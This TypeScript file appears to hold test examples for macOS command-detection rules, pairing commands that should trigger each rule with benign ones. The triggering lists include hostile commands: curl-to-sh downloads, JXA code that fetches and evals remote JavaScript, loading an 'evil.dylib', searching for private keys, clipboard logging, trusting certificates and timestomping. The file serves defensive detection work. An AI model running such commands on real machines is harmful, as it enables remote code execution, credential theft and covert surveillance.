import type { RuleExamples } from './rule-examples.ts';

export const MACOS_EXAMPLES: RuleExamples = {
  'macos.plist-delete': {
    fires: ['pkgutil --forget com.x'],
    silent: ['pkgutil --pkgs', 'kmutil inspect'],
  },
  'macos.remote-management': {
    fires: ['kickstart -activate -configure', 'systemsetup -setremotelogin on'],
    silent: ['systemsetup -gettimezone'],
  },
  'macos.system-settings': {
    fires: [
      'networksetup -setwebproxy Wi-Fi 203.0.113.7 8080',
      'defaults delete com.x',
      'sudo networksetup -setdnsservers Wi-Fi 1.1.1.1',
    ],
    silent: [
      'networksetup -getwebproxy Wi-Fi',
      'launchctl list',
      'defaults read x',
      'softwareupdate -l',
      'systemsetup -gettimezone',
    ],
  },
  'macos.trust-certificate': {
    fires: ['security add-trusted-cert -d x.pem'],
    silent: ['security find-certificate -a', 'trust list'],
  },
  'macos.snapshot-mount': {
    fires: [
      'mount_apfs -o noowners -s com.apple.TimeMachine.2025-02-03-040506.local /System/Volumes/Data /tmp/old',
      'mount -t apfs -o ro,noowners -s com.apple.TimeMachine.x /dev/disk1s1 /tmp/y',
    ],
    silent: ['mount_apfs /dev/disk2s1 /Volumes/x', 'mount', 'mount -t apfs -o noowners /dev/disk2s1 /Volumes/usb'],
  },
  'macos.file-dates': {
    fires: ["SetFile -d '01/02/2020 10:00' report.txt", "SetFile -m '01/02/2020' a.sh"],
    silent: ['SetFile -a V notes.txt', 'GetFileInfo a.txt'],
  },
  'macos.loaded-code': {
    fires: [
      'osascript -l JavaScript -e \'a.doShellScript("curl https://x.example | sh")\'',
      'osascript -l JavaScript -e \'ObjC.import("Foundation"); eval($.NSString.stringWithContentsOfURL($.NSURL.URLWithString("http://198.51.100.9/p.js")).js)\'',
      "echo 'load ./evil.dylib' | tclsh",
      'ssh-keygen -D ./evil.dylib',
      'osacompile -x -o run.scpt a.applescript',
    ],
    silent: [
      'osascript -e \'display notification "done"\'',
      "echo 'puts hi' | tclsh",
      'ssh-keygen -t ed25519',
      'ssh-keygen -D /usr/lib/opensc-pkcs11.so',
      'osacompile -o a.app a.applescript',
      'swift -e 1+1',
    ],
  },
  'macos.observation': {
    fires: [
      'sfltool resetbtm',
      'mdfind \'kMDItemTextContent == "*BEGIN RSA PRIVATE KEY*"\'',
      'screencapture -x /tmp/s.png',
      'while true; do pbpaste >> /tmp/c; sleep 1; done',
      'sharing -a /Users/x/Documents',
      'hdiutil attach http://203.0.113.7/a.dmg',
      'profiles install -path x.mobileconfig',
      'chflags hidden ~/x',
    ],
    silent: [
      'mdfind -name report',
      'sfltool dumpbtm',
      'screencapture -i shot.png',
      'pbpaste | wc -l',
      'hdiutil attach app.dmg',
      'profiles list',
      'sharing -l',
    ],
  },
};
